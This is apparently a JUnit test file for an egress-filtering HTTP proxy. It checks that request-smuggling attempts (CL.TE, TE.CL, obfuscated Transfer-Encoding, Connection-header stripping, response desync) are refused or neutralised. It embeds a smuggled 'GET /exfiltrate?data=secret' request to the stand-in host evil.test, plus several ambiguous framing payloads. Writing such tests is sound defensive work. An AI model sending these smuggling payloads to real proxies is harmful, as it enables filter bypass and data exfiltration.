package dev.halt.proxy;

import static dev.halt.proxy.ProxyTestSupport.*;
import static org.junit.jupiter.api.Assertions.*;

import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Request smuggling through the real proxy port, against an origin that is as lenient as
 * real ones can be: it reads requests back to back on one connection and answers each, even
 * after {@code Connection: close}. A request that reaches it with another Host than the allowed
 * one the proxy checked is a request to another site on the same server (a CDN's, say), the
 * domain fronting that plain HTTP must not allow.
 */
class HttpSmugglingTest {
    FakeDns dns;
    LenientOrigin origin;
    ProxyServer proxy;
    List<DecisionEvent> events;

    @BeforeEach
    void setUp() throws IOException {
        dns = new FakeDns();
        dns.answer("allowed.test", "127.0.0.1");
        origin = new LenientOrigin();
        events = events();
        proxy = ProxyServer.startOnLoopback(base(dns, events).allow("allowed.test").build());
    }

    @AfterEach
    void tearDown() throws IOException {
        if (proxy != null) proxy.close();
        origin.close();
        dns.close();
    }

    String url(String path) {
        return "http://allowed.test:" + origin.port() + path;
    }

    static final String SMUGGLED = "GET /exfiltrate?data=secret HTTP/1.1\r\nHost: evil.test\r\n\r\n";

    /** Every request the origin read must be one the proxy sent, to the allowed host. */
    void assertOnlyAllowedHostReached() throws InterruptedException {
        // The proxy closes its origin connection after one exchange: once the origin has read to
        // that end, it has read every request it was sent.
        assertTrue(await(java.time.Duration.ofSeconds(5), () -> origin.open.isEmpty()), "the proxy left its origin connection open");
        assertFalse(origin.heads.isEmpty(), "the allowed request reached the origin");
        for (String head : origin.heads) {
            assertTrue(head.startsWith("POST /") || head.startsWith("GET /"), head);
            assertEquals("allowed.test:" + origin.port(), header(head, "Host"), "a request with another Host reached the origin:\n" + head);
        }
    }

    @Test
    void connectionCannotStripTheContentLengthTheProxyFramedTheBodyBy() throws Exception {
        try (Socket s = connect(proxy.proxyAddress())) {
            send(s, "POST " + url("/upload") + " HTTP/1.1\r\nContent-Length: " + SMUGGLED.length()
                    + "\r\nConnection: content-length\r\n\r\n" + SMUGGLED);
            String[] r = readResponse(s);
            assertTrue(r[0].startsWith("HTTP/1.1 200 "), r[0]);
        }
        assertOnlyAllowedHostReached();
        assertEquals(SMUGGLED, origin.bodies.getFirst(), "the body reached the origin as the body");
    }

    @Test
    void connectionCannotStripTheTransferEncodingTheProxyFramedTheBodyBy() throws Exception {
        String body = Integer.toHexString(SMUGGLED.length()) + "\r\n" + SMUGGLED + "\r\n0\r\n\r\n";
        try (Socket s = connect(proxy.proxyAddress())) {
            send(s, "POST " + url("/upload") + " HTTP/1.1\r\nTransfer-Encoding: chunked\r\nConnection: Transfer-Encoding\r\n\r\n" + body);
            String[] r = readResponse(s);
            assertTrue(r[0].startsWith("HTTP/1.1 200 "), r[0]);
        }
        assertOnlyAllowedHostReached();
        assertEquals(SMUGGLED, origin.bodies.getFirst());
    }

    @Test
    void ambiguousFramingIsRefusedBeforeAnyOriginIsReached() throws Exception {
        for (String framing : List.of(
                "Content-Length: 4\r\nTransfer-Encoding: chunked",           // CL.TE
                "Transfer-Encoding: chunked\r\nContent-Length: 4",           // TE.CL
                "Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",      // TE.TE, the last one not chunked
                "Transfer-Encoding: xchunked",
                "Content-Length: 4\r\nContent-Length: 60",
                "Content-Length: 4\r\n Transfer-Encoding: chunked")) {       // folded
            try (Socket s = connect(proxy.proxyAddress())) {
                send(s, "POST " + url("/") + " HTTP/1.1\r\n" + framing + "\r\n\r\n0\r\n\r\n" + SMUGGLED);
                String[] r = readResponse(s);
                assertTrue(r[0].startsWith("HTTP/1.1 400 "), framing + " -> " + r[0]);
                assertTrue(closedByPeer(s), framing);
            }
        }
        assertEquals(0, origin.accepted.size(), "no origin connection for an ambiguous request");
    }

    @Test
    void bytesAnOriginSendsPastItsResponseNeverAnswerTheClientsNextRequest() throws Exception {
        origin.trailingGarbage = "HTTP/1.1 200 OK\r\nContent-Length: 4\r\nX-Fake: yes\r\n\r\nfake";
        try (Socket s = connect(proxy.proxyAddress())) {
            send(s, "GET " + url("/one") + " HTTP/1.1\r\n\r\n");
            String[] r1 = readResponse(s);
            assertEquals("ok", r1[1]);
            assertNull(header(r1[0], "Connection"), "the client may send another request: " + r1[0]);
            send(s, "GET http://evil.test/ HTTP/1.1\r\n\r\n");
            String[] r2 = readResponse(s);
            assertTrue(r2[0].startsWith("HTTP/1.1 403 "), "the origin's extra bytes were read as the answer:\n" + r2[0]);
            assertNull(header(r2[0], "X-Fake"));
        }
        assertEquals(0, dns.count("evil.test"));
    }

    /**
     * An origin on 127.0.0.1 that reads requests back to back (head, then a Content-Length or
     * chunked body) and answers each with {@code 200 ok}, ignoring {@code Connection: close}.
     */
    static final class LenientOrigin implements AutoCloseable {
        final ServerSocket server = new ServerSocket(0, 64, InetAddress.getByName("127.0.0.1"));
        final List<String> heads = new CopyOnWriteArrayList<>();
        final List<String> bodies = new CopyOnWriteArrayList<>();
        final List<Socket> accepted = new CopyOnWriteArrayList<>();
        private final Set<Socket> open = ConcurrentHashMap.newKeySet();
        volatile String trailingGarbage = "";

        LenientOrigin() throws IOException {
            Thread.ofPlatform().daemon(true).start(() -> {
                while (!server.isClosed()) {
                    try {
                        Socket s = server.accept();
                        accepted.add(s);
                        open.add(s);
                        Thread.ofVirtual().start(() -> serve(s));
                    } catch (IOException e) {
                        return;
                    }
                }
            });
        }

        int port() {
            return server.getLocalPort();
        }

        private void serve(Socket s) {
            try (s) {
                s.setSoTimeout(5000);
                InputStream in = s.getInputStream();
                while (true) {
                    String head = readHead(in);
                    if (head == null) return;
                    heads.add(head);
                    String cl = header(head, "Content-Length");
                    byte[] body;
                    if (cl != null) {
                        body = in.readNBytes(Integer.parseInt(cl));
                    } else if ("chunked".equalsIgnoreCase(header(head, "Transfer-Encoding"))) {
                        body = Origin.chunkedBody(in);
                    } else {
                        body = new byte[0];
                    }
                    if (body == null) return;
                    bodies.add(new String(body, StandardCharsets.ISO_8859_1));
                    s.getOutputStream().write(("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok" + trailingGarbage)
                            .getBytes(StandardCharsets.ISO_8859_1));
                    s.getOutputStream().flush();
                }
            } catch (IOException | RuntimeException e) {
                // the proxy closed its side
            } finally {
                open.remove(s);
            }
        }

        private static String readHead(InputStream in) throws IOException {
            var sb = new StringBuilder();
            while (!sb.toString().endsWith("\r\n\r\n")) {
                int c = in.read();
                if (c < 0) return null;
                sb.append((char) c);
            }
            return sb.toString();
        }

        @Override
        public void close() throws IOException {
            server.close();
            for (Socket s : open) s.close();
        }
    }
}
